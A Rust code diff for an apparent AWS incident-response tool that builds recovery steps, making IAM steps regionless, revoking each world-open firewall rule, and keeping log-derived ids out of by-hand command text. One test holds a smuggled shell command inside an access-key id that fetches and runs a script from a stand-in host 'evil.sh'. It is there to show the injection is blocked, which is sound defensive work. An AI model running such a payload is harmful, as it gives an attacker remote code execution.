@@ -46,7 +46,12 @@ pub fn steps(r: &Resource) -> Vec<Step> {
         action: action.to_string(),
         resource: r.id.clone(),
         account: r.account.clone(),
-        region: r.region.clone(),
+        // IAM is global: its steps carry no region, so one role is one step.
+        region: if regional(r.kind) {
+            r.region.clone()
+        } else {
+            None
+        },
         with: BTreeMap::new(),
         reason,
         record: Some(RecordRef {
@@ -85,13 +90,12 @@ pub fn steps(r: &Resource) -> Vec<Step> {
             // replaced once contained.
             if made.is_none() {
                 let rotate = step(Phase::Rotate, "rotate-access-key", used(), first);
+                // Prose, never a command with the log's id in it: the key is the step's resource.
                 out.push(by_hand(
                     rotate,
-                    &format!(
-                        "squall recover aws key {} --rotate --secret-file FILE (the new secret \
-                         goes to FILE; hand it to the key's owner)",
-                        r.id
-                    ),
+                    "rotate the step's key with `squall recover aws key KEY --rotate \
+                     --secret-file FILE --case CASE` (the new secret goes to FILE; hand it to \
+                     the key's owner)",
                 ));
             }
         }
@@ -104,9 +108,11 @@ pub fn steps(r: &Resource) -> Vec<Step> {
             }
         }
         Kind::User => {
-            // The attacker's users, and users it changed; a user whose key merely leaked is
-            // answered by the key's steps (containing it would lock its owner out too).
-            if let Some(c) = changed(Change::Created).or(last) {
+            // The attacker's own users. A user it only changed (a key made for it, a policy
+            // put on it) is answered by undoing those changes, and a user whose key leaked by
+            // the key's steps: containing either would lock its owner out, which an attacker
+            // could steer a responder into by touching a break-glass user.
+            if let Some(c) = changed(Change::Created) {
                 out.push(step(
                     Phase::Contain,
                     "contain-user",
@@ -186,15 +192,28 @@ pub fn steps(r: &Resource) -> Vec<Step> {
             }
         }
         Kind::Firewall => {
-            if let Some(c) = changed(Change::Opened) {
-                let rules: Vec<_> = r.changes.iter().flat_map(|c| c.rules.clone()).collect();
-                let closes = verbs::acting_on(r.kind, &r.id, None, &[Change::Opened], &rules);
-                if closes.is_some() {
-                    out.push(undo("replace-world-rule", c));
-                } else {
-                    // Each world-open rule the attacker added, revoked as it was added.
-                    for rule in c.rules.iter().filter(|x| x.ingress && x.is_world()) {
-                        out.push(revoke(undo("revoke-rule", c), &r.id, rule));
+            // Every world-open rule of every change that opened the group: those `recover aws
+            // firewall` closes (SSH, RDP, all ports) by one step for the group, each other one
+            // revoked as it was added, for each of its world ranges (IPv4 and IPv6).
+            let mut replaced = false;
+            for c in r.changes.iter().filter(|c| c.change == Change::Opened) {
+                for rule in c.rules.iter().filter(|x| x.ingress && x.is_world()) {
+                    let closes = verbs::acting_on(
+                        r.kind,
+                        &r.id,
+                        None,
+                        &[Change::Opened],
+                        std::slice::from_ref(rule),
+                    );
+                    if closes.is_some() {
+                        if !replaced {
+                            out.push(undo("replace-world-rule", c));
+                            replaced = true;
+                        }
+                        continue;
+                    }
+                    for peer in rule.peers.iter().filter(|p| p.ends_with("/0")) {
+                        out.push(revoke(undo("revoke-rule", c), &r.id, rule, peer));
                     }
                 }
             }
@@ -236,14 +255,9 @@ pub fn steps(r: &Resource) -> Vec<Step> {
         Kind::Monitoring | Kind::Bucket | Kind::Function => {
             if let Some(c) = last {
                 let what = format!(
-                    "undo by hand: {} {} was {}{}",
+                    "undo by hand: the step's {} was {} (its reason and record say how)",
                     r.kind.name().replace('_', " "),
-                    r.id,
                     c.change.past(),
-                    c.detail
-                        .as_deref()
-                        .map(|d| format!(" ({d})"))
-                        .unwrap_or_default()
                 );
                 out.push(by_hand(undo("restore", c), &what));
             }
@@ -251,6 +265,23 @@ pub fn steps(r: &Resource) -> Vec<Step> {
         _ => {}
     }
     out
+}
+
+/// Kinds that live in one region (everything but IAM).
+fn regional(kind: Kind) -> bool {
+    !matches!(
+        kind,
+        Kind::Principal
+            | Kind::AccessKey
+            | Kind::SessionKey
+            | Kind::User
+            | Kind::Role
+            | Kind::Group
+            | Kind::LoginProfile
+            | Kind::InlinePolicy
+            | Kind::ManagedPolicy
+            | Kind::PolicyVersion
+    )
 }
 
 /// `user backup` → `user/backup`: how the undo verbs name a policy's holder.
@@ -261,7 +292,7 @@ fn holder(parent: &str) -> Option<String> {
 
 /// A step revoking one ingress rule, named as `revoke-rule` names it
 /// (`sg-1:tcp/22:0.0.0.0/0`), its parts in `with`.
-fn revoke(mut s: Step, group: &str, rule: &squall_core::touched::Rule) -> Step {
+fn revoke(mut s: Step, group: &str, rule: &squall_core::touched::Rule, cidr: &str) -> Step {
     let protocol = if rule.protocol == "all" {
         "-1".to_string()
     } else {
@@ -273,12 +304,7 @@ fn revoke(mut s: Step, group: &str, rule: &squall_core::touched::Rule) -> Step {
         Some((a, b)) => Some(format!("{a}-{b}")),
         None => None,
     };
-    let cidr = rule
-        .peers
-        .iter()
-        .find(|p| p.ends_with("/0"))
-        .cloned()
-        .unwrap_or_default();
+    let cidr = cidr.to_string();
     s.resource = format!(
         "{group}:{protocol}/{}:{cidr}",
         ports.as_deref().unwrap_or("all")
@@ -464,6 +490,47 @@ mod tests {
     }
 
     #[test]
+    fn every_world_rule_of_every_opening_is_undone() {
+        let rule = |port: u32, peers: &[&str]| Rule {
+            ingress: true,
+            protocol: "tcp".into(),
+            ports: Some((port, port)),
+            peers: peers.iter().map(|p| p.to_string()).collect(),
+        };
+        let mut sg = resource(
+            Kind::Firewall,
+            "sg-0123456789abcdef0",
+            &[(Change::Opened, None), (Change::Opened, None)],
+        );
+        sg.changes[0].rules = vec![rule(22, &["0.0.0.0/0"]), rule(5432, &["0.0.0.0/0"])];
+        sg.changes[1].rules = vec![
+            rule(3306, &["0.0.0.0/0", "::/0"]),
+            rule(6379, &["10.0.0.0/8"]),
+        ];
+        let got: Vec<String> = steps(&sg)
+            .into_iter()
+            .map(|s| format!("{} {}", s.action, s.resource))
+            .collect();
+        assert_eq!(
+            got,
+            [
+                "replace-world-rule sg-0123456789abcdef0",
+                "revoke-rule sg-0123456789abcdef0:tcp/5432:0.0.0.0/0",
+                "revoke-rule sg-0123456789abcdef0:tcp/3306:0.0.0.0/0",
+                "revoke-rule sg-0123456789abcdef0:tcp/3306:::/0",
+            ]
+        );
+    }
+
+    #[test]
+    fn a_leaked_keys_rotation_names_no_id_from_the_log() {
+        let hostile = resource(Kind::AccessKey, "AKIAX$(curl${IFS}evil.sh|sh)", &[]);
+        let rotate = steps(&hostile).pop().unwrap();
+        assert_eq!(rotate.action, "rotate-access-key");
+        assert!(!rotate.by_hand.unwrap().contains("curl"));
+    }
+
+    #[test]
     fn bystanders_and_a_leaked_keys_owner_are_not_contained() {
         let mut bob = resource(Kind::AccessKey, "AKIABOB0000000000001", &[]);
         bob.address_only = true;
@@ -472,5 +539,8 @@ mod tests {
         assert!(steps(&owner).is_empty());
         let made = resource(Kind::User, "backup", &[(Change::Created, None)]);
         assert_eq!(actions(&made)[0].1, "contain-user");
+        // A user the attacker only changed is answered by undoing the change.
+        let changed = resource(Kind::User, "break-glass", &[(Change::Modified, None)]);
+        assert!(steps(&changed).is_empty());
     }
 }
